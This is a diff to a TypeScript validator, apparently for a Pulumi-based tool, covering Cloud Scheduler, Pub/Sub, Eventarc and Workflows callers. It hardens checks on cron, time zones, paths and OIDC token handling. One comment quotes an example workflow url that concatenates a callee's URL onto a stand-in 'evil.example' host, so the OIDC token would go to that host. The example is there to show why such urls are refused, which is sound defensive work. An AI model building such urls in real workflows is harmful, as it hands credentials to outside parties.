@@ -12,8 +12,9 @@ import { describeValue, formatPath, type TopologyIssue } from "./errors";
 import type { CallerSpec } from "./model";
 import { FUNCTION_NAME_PATTERN } from "./names";
 import type { Generation } from "./schema";
+import { cronProblem } from "./cron";
 import { sourcePathProblem } from "./source-folders";
-import { workflowHttpSteps, workflowUrlVariable } from "./workflow-steps";
+import { calleeUrlShape, workflowHttpSteps, workflowUrlVariable } from "./workflow-steps";
 
 /** The config key of the callers that are not functions, as written in `Pulumi.<stack>.yaml`. */
 export const CALLERS_KEY = "callgraph:callers";
@@ -43,11 +44,11 @@ export interface CallerContext {
 const TOPIC_ID = /^(?!goog)[A-Za-z][-A-Za-z0-9_.~+%]{2,254}$/;
 const TOPIC_NAME = /^projects\/([a-z][-a-z0-9]{4,28}[a-z0-9])\/topics\/(.+)$/;
 /** A path the source calls below its callee's URL: from `/`, without a query, a fragment or a space. */
-const PATH = /^\/[^\s?#]*$/;
-/** The five unix-cron fields' characters (https://cloud.google.com/scheduler/docs/configuring/cron-job-schedules). */
-const CRON_FIELD = /^[0-9A-Za-z*,/-]+$/;
+const PATH = /^\/[A-Za-z0-9._~!$&'()*+,;=:@/-]*$/;
 /** An Eventarc filter's attribute: a CloudEvents attribute name (lowercase letters and digits). */
-const ATTRIBUTE = /^[a-z0-9]{1,20}$/;
+const ATTRIBUTE = /^[A-Za-z][A-Za-z0-9]{0,39}$/;
+/** A CloudEvents `type`, as Google names them (`google.cloud.storage.object.v1.finalized`). */
+const EVENT_TYPE = /^[A-Za-z0-9][A-Za-z0-9._-]{0,254}$/;
 
 /** The kinds that call exactly one function: a job, a subscription and a queue each have one target. */
 const SINGLE_TARGET: ReadonlySet<CallerKind> = new Set(["scheduler", "pubsub", "tasks", "eventarc"]);
@@ -106,7 +107,7 @@ export function parseCallers(
       continue;
     }
     if (kind === undefined || calls === undefined) continue;
-    const own = kindIssues(parsed.data, kind, context, at);
+    const own = kindIssues(name, parsed.data, kind, context, at);
     issues.push(...own);
     if (issues.length === before) callers.push(toSpec(name, kind, parsed.data));
   }
@@ -157,6 +158,7 @@ const KIND_WORDS: Readonly<Record<CallerKind, string>> = {
 };
 
 function kindIssues(
+  name: string,
   decl: CallerDeclaration,
   kind: CallerKind,
   context: CallerContext,
@@ -164,26 +166,32 @@ function kindIssues(
 ): TopologyIssue[] {
   const issues: TopologyIssue[] = [];
   const pathIssue = (value: string | undefined) => {
-    if (value !== undefined && !PATH.test(value))
+    if (
+      value !== undefined &&
+      PATH.test(value) &&
+      value.split("/").some((part) => part === "." || part === "..")
+    )
       issues.push({
         path: at(kind, "path"),
-        message: `${JSON.stringify(value)} is not a path: start it with "/", without a query, a fragment or spaces`,
+        message: `${JSON.stringify(value)} has a "." or ".." segment: below its callee's URL, it could reach another function's`,
+      });
+    else if (value !== undefined && !PATH.test(value))
+      issues.push({
+        path: at(kind, "path"),
+        message: `${JSON.stringify(value)} is not a path: start it with "/", with no query, fragment, space or percent-encoding`,
       });
   };
   switch (kind) {
     case "scheduler": {
       const s = decl.scheduler!;
-      const fields = s.schedule.trim().split(/\s+/);
-      if (fields.length !== 5 || !fields.every((f) => CRON_FIELD.test(f)))
+      const cron = cronProblem(s.schedule);
+      if (cron)
         issues.push({
           path: at(kind, "schedule"),
-          message: `${JSON.stringify(s.schedule)} is not a unix-cron schedule: five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"`,
+          message: `${JSON.stringify(s.schedule)} is not a unix-cron schedule: ${cron}. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"`,
         });
-      if (s.timeZone !== undefined && !isTimeZone(s.timeZone))
-        issues.push({
-          path: at(kind, "timeZone"),
-          message: `${JSON.stringify(s.timeZone)} is not a time zone of the tz database, e.g. "Etc/UTC" or "Europe/Paris"`,
-        });
+      const zone = s.timeZone === undefined ? undefined : timeZoneProblem(s.timeZone);
+      if (zone) issues.push({ path: at(kind, "timeZone"), message: `${JSON.stringify(s.timeZone)} ${zone}` });
       const method = s.httpMethod ?? "POST";
       if (s.body !== undefined && !["POST", "PUT", "PATCH"].includes(method))
         issues.push({
@@ -195,6 +203,13 @@ function kindIssues(
     }
     case "pubsub": {
       const p = decl.pubsub!;
+      // The caller's name is its subscription's: "between 3 and 255 characters", "must not start with goog"
+      // (https://cloud.google.com/pubsub/docs/pubsub-basics#resource_names).
+      if (name.length < 3 || name.startsWith("goog"))
+        issues.push({
+          path: at(),
+          message: `${JSON.stringify(name)} names its Pub/Sub subscription, which takes 3 to 255 characters not starting with "goog": rename the caller`,
+        });
       const full = TOPIC_NAME.exec(p.topic);
       if (!(full ? TOPIC_ID.test(full[2]) : TOPIC_ID.test(p.topic)))
         issues.push({
@@ -225,7 +240,17 @@ function kindIssues(
       break;
     case "eventarc": {
       const e = decl.eventarc!;
-      for (const attribute of Object.keys(e.filters ?? {})) {
+      if (!EVENT_TYPE.test(e.eventType))
+        issues.push({
+          path: at(kind, "eventType"),
+          message: `${JSON.stringify(e.eventType)} is not an event type, e.g. google.cloud.storage.object.v1.finalized`,
+        });
+      for (const [attribute, value] of Object.entries(e.filters ?? {})) {
+        if (value === "")
+          issues.push({
+            path: at(kind, "filters", attribute),
+            message: "is empty: give the value events must have",
+          });
         if (attribute === "type")
           issues.push({
             path: at(kind, "filters", attribute),
@@ -234,7 +259,7 @@ function kindIssues(
         else if (!ATTRIBUTE.test(attribute))
           issues.push({
             path: at(kind, "filters", attribute),
-            message: `${JSON.stringify(attribute)} is not a CloudEvents attribute name (lowercase letters and digits, e.g. bucket)`,
+            message: `${JSON.stringify(attribute)} is not an event attribute name (letters and digits, e.g. bucket or serviceName)`,
           });
       }
       pathIssue(e.path);
@@ -275,34 +300,62 @@ function workflowIssues(
   for (const step of steps) {
     const push = (message: string) =>
       issues.push({ path: where, message: `${source}, step ${step.at}: ${message}` });
-    const callees = step.urlVariables.map((v) => byVariable.get(v));
+    // What cannot be read cannot be checked: an auth or a url built by an expression is refused, not skipped.
+    if (step.opaqueAuth || step.opaqueUrl) {
+      push(
+        `${step.call} writes its ${step.opaqueAuth ? "auth" : "url"} as an expression: write auth as a map ({type: OIDC}) and url as \${sys.get_env("CALLGRAPH_URL_<NAME>")}, so what it sends can be checked`,
+      );
+      continue;
+    }
+    if (step.auth !== undefined && step.auth !== "OIDC" && step.auth.toUpperCase() === "OIDC") {
+      push(`${step.call} writes auth.type ${JSON.stringify(step.auth)}: Workflows spells it OIDC`);
+      continue;
+    }
     if (step.auth !== "OIDC") {
-      if (step.urlVariables.length > 0)
+      if (step.urlVariables.length > 0 || step.audienceVariables.length > 0)
         push(
-          `${step.call} reads ${step.urlVariables.join(", ")} without auth: {type: OIDC}: a function is called with the workflow's ID token, or it refuses the call`,
+          `${step.call} reads ${[...new Set([...step.urlVariables, ...step.audienceVariables])].join(", ")} without auth: {type: OIDC}: a function is called with the workflow's ID token, or it refuses the call`,
         );
       continue;
     }
-    if (step.urlVariables.length !== 1) {
+    // A token is sent only where the url is a declared callee's own, with at most a literal path below it: a
+    // url that merely reads the variable (`${"https://evil.example/?u=" + sys.get_env(...)}`) would hand the token
+    // to whoever answers there, who could replay it to the callee.
+    const shape = calleeUrlShape(step.url);
+    if (step.urlVariables.length !== 1 || !shape) {
       push(
-        `${step.call} authenticates with OIDC, so its url must read exactly one declared callee's URL, ` +
-          `\${sys.get_env("CALLGRAPH_URL_<NAME>")} (declared: ${calls.map(workflowUrlVariable).join(", ") || "none"}), got ${describeValue(step.url)}`,
+        `${step.call} authenticates with OIDC, so its url must be one declared callee's URL, ` +
+          `\${sys.get_env("CALLGRAPH_URL_<NAME>")}, or that URL and a literal path (\${sys.get_env("CALLGRAPH_URL_<NAME>") + "/path"}), nothing before it ` +
+          `(declared: ${calls.map(workflowUrlVariable).join(", ") || "none"}), got ${describeValue(step.url)}`,
       );
       continue;
     }
-    const callee = callees[0];
+    if (shape.path.split("/").some((part) => part === "." || part === "..")) {
+      push(
+        `${step.call} calls ${describeValue(step.url)}: a path with "." or ".." segments may leave its callee`,
+      );
+      continue;
+    }
+    const callee = byVariable.get(shape.variable);
     if (callee === undefined || !calls.includes(callee)) {
       push(
-        `${step.call} calls ${callee === undefined ? `${step.urlVariables[0]}, which is no function's URL` : `${JSON.stringify(callee)}, which the workflow does not declare`}: add it to calls, or remove the step`,
+        `${step.call} calls ${callee === undefined ? `${shape.variable}, which is no function's URL` : `${JSON.stringify(callee)}, which the workflow does not declare`}: add it to calls, or remove the step`,
       );
       continue;
     }
-    // The audience defaults to the URL (the Workflows OIDC reference); a URL with more than the callee's would send
-    // a token whose audience is not the callee's, which it refuses.
-    const bare = /^\$\{\s*sys\.get_env\(\s*["'][A-Z0-9_]+["']\s*\)\s*\}$/.test(step.url ?? "");
-    if (!bare && !(step.audienceVariables.length === 1 && step.audienceVariables[0] === step.urlVariables[0]))
+    // The audience defaults to the URL (the Workflows OIDC reference): with a path, it must be set to the callee's
+    // own URL, the only audience the callee accepts; set, it must be exactly that.
+    const audience = calleeUrlShape(step.audience);
+    if (
+      step.audience !== undefined &&
+      (audience === undefined || audience.path !== "" || audience.variable !== shape.variable)
+    )
       push(
-        `${step.call} calls a path below ${callee}'s URL: set auth.audience to \${sys.get_env("${step.urlVariables[0]}")}, since the token's audience defaults to the whole url and ${callee} accepts only its own URL`,
+        `${step.call} sets auth.audience ${describeValue(step.audience)}: it must be \${sys.get_env("${shape.variable}")}, ${callee}'s own URL, the one audience it accepts`,
+      );
+    else if (shape.path !== "" && step.audience === undefined)
+      push(
+        `${step.call} calls a path below ${callee}'s URL: set auth.audience to \${sys.get_env("${shape.variable}")}, since the token's audience defaults to the whole url and ${callee} accepts only its own URL`,
       );
   }
   const called = new Set(steps.filter((s) => s.auth === "OIDC").flatMap((s) => s.urlVariables));
@@ -378,14 +431,23 @@ function toSpec(name: string, kind: CallerKind, decl: CallerDeclaration): Caller
   }
 }
 
-function isTimeZone(zone: string): boolean {
+/**
+ * Why `zone` is not a tz database name as Cloud Scheduler takes it, or undefined. Intl knows every name, aliases
+ * included (`Etc/UTC`), but ignores case, which the tz database does not: `europe/paris` is refused with its spelling.
+ */
+function timeZoneProblem(zone: string): string | undefined {
+  let canonical: string;
   try {
-    new Intl.DateTimeFormat("en-US", { timeZone: zone });
-    return true;
+    canonical = new Intl.DateTimeFormat("en-US", { timeZone: zone }).resolvedOptions().timeZone;
   } catch {
-    return false;
+    return 'is not a time zone of the tz database, e.g. "Etc/UTC" or "Europe/Paris"';
   }
+  if (TZ_SPELLING.test(zone)) return undefined;
+  return `is not spelled as the tz database spells it${canonical.toLowerCase() === zone.toLowerCase() ? `: write ${JSON.stringify(canonical)}` : ""}`;
 }
+
+/** Each part of a tz database name starts with a capital (`Europe/Paris`, `Etc/GMT+5`, `America/Port-au-Prince`). */
+const TZ_SPELLING = /^[A-Z][A-Za-z0-9_+-]*(?:\/[A-Z][A-Za-z0-9_+-]*)*$/;
 
 function stringList(value: unknown): string[] | undefined {
   return Array.isArray(value) && value.every((v) => typeof v === "string") ? (value as string[]) : undefined;
@@ -427,7 +489,7 @@ function schemaIssue(name: string, issue: $ZodIssue): TopologyIssue[] {
             ? "a whole number"
             : issue.expected === "object"
               ? "an object of settings"
-              : `a ${issue.expected}`;
+              : `${/^[aeiou]/.test(issue.expected) ? "an" : "a"} ${issue.expected}`;
     return [{ path: formatPath(path), message: `expected ${expected}, got ${describeValue(issue.input)}` }];
   }
   if (issue.code === "invalid_value")
